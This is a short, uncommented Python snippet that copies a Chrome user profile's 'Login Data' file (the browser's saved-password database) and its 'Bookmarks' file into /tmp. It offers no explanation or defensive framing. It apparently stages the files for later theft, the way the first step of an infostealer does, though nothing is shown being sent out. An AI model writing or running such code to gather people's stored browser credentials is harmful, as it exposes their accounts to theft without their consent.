import shutil
from pathlib import Path

PROFILE = Path.home() / ".config/google-chrome/Default"
shutil.copy(PROFILE / "Login Data", "/tmp/ld.db")
shutil.copy(PROFILE / "Bookmarks", "/tmp/bm.json")
